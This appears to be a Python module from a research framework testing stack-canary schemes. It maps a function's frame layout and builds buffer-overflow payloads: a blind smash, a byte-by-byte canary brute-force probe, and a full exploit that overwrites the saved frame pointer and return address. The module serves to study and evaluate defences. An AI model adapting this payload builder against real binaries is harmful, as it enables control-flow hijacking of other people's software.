"""Overflow payload construction.

The adversary model grants full knowledge of the victim binary (paper
§III-A), so the payload builder introspects the compiled function's frame
metadata — buffer position, canary slots, frame size — just as a real
attacker reads a disassembly.  What it must *guess* is only the canary
material, which is the whole point of the schemes under test.

Payload coordinates: byte 0 lands at the buffer's lowest address
(``rbp - buffer_offset``); the saved frame pointer starts at byte
``buffer_offset``; the return address at ``buffer_offset + 8``.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, Optional

from ..binfmt.elf import Binary
from ..errors import ProtectionError


@dataclass
class FrameMap:
    """Attack-relevant layout of one protected function's frame."""

    function: str
    buffer_offset: int  # rbp - offset = buffer base (payload byte 0)
    buffer_size: int
    canary_slots: "list[int]"  # rbp-relative offsets, 8 bytes each

    @property
    def canary_region_start(self) -> int:
        """Payload position of the first (lowest-address) canary byte."""
        return self.buffer_offset - max(self.canary_slots)

    @property
    def canary_region_size(self) -> int:
        """Bytes from the lowest canary byte up to the saved rbp."""
        return max(self.canary_slots)

    @property
    def saved_rbp_position(self) -> int:
        return self.buffer_offset

    @property
    def return_address_position(self) -> int:
        return self.buffer_offset + 8

    def slot_position(self, slot: int) -> int:
        """Payload position of canary word at ``rbp - slot``."""
        return self.buffer_offset - slot


def frame_map(binary: Binary, function_name: str, buffer: Optional[str] = None) -> FrameMap:
    """Derive the attack layout for ``function_name`` in ``binary``."""
    function = binary.function(function_name)
    buffers: Dict[str, tuple] = function.meta.get("buffers", {})
    if not buffers:
        raise ProtectionError(f"{function_name} has no local buffers to overflow")
    if buffer is None:
        # The buffer adjacent to the canary region: highest address,
        # i.e. the smallest offset.
        buffer = min(buffers, key=lambda name: buffers[name][0])
    offset, size = buffers[buffer]
    slots = list(function.meta.get("canary_slots", [])) or [8]
    return FrameMap(function_name, offset, size, slots)


class PayloadBuilder:
    """Compose overflow payloads against a mapped frame."""

    def __init__(self, frame: FrameMap, fill: bytes = b"A") -> None:
        self.frame = frame
        self.fill = fill
        # Every payload is a prefix of one filler string (patched, for
        # exploits), so it is built once per builder, not per payload.
        length = max(frame.return_address_position + 8, frame.buffer_size)
        self._filler = (fill * (length // len(fill) + 1))[:length]
        self._probe_prefix = self._filled(frame.canary_region_start)

    def _filled(self, length: int) -> bytes:
        return self._filler[: max(length, 0)]

    def benign(self, length: Optional[int] = None) -> bytes:
        """A payload that stays inside the buffer."""
        if length is None:
            length = max(0, self.frame.buffer_size - 1)
        if length >= self.frame.buffer_size:
            raise ValueError("benign payload would overflow")
        return self._filled(length)

    def smash(self) -> bytes:
        """Blind overflow: fill straight through canaries, the saved
        frame pointer and the return address."""
        return self._filled(self.frame.return_address_position + 8)

    def probe(self, known: bytes, guess: int) -> bytes:
        """Byte-by-byte probe: overwrite ``len(known)+1`` canary bytes.

        ``known`` are the already-recovered low canary bytes; ``guess`` is
        the candidate for the next byte.  Bytes above the guess are left
        untouched, so a correct guess leaves the canary region intact.
        """
        return self._probe_prefix + known + bytes((guess,))

    def with_canaries(
        self,
        canary_words: Dict[int, int],
        *,
        new_return: Optional[int] = None,
        new_rbp: Optional[int] = None,
    ) -> bytes:
        """Full exploit: correct canary words, then rbp/ret overwrite.

        ``canary_words`` maps canary slot offsets to 64-bit values.  Any
        canary slot not supplied is filled with filler bytes (i.e., it
        gets smashed — useful for negative tests).
        """
        length = self.frame.return_address_position + 8
        payload = bytearray(self._filled(length))
        for slot, value in canary_words.items():
            position = self.frame.slot_position(slot)
            payload[position : position + 8] = value.to_bytes(8, "little")
        if new_rbp is not None:
            p = self.frame.saved_rbp_position
            payload[p : p + 8] = new_rbp.to_bytes(8, "little")
        if new_return is not None:
            p = self.frame.return_address_position
            payload[p : p + 8] = new_return.to_bytes(8, "little")
        else:
            payload = payload[: self.frame.saved_rbp_position]
        return bytes(payload)
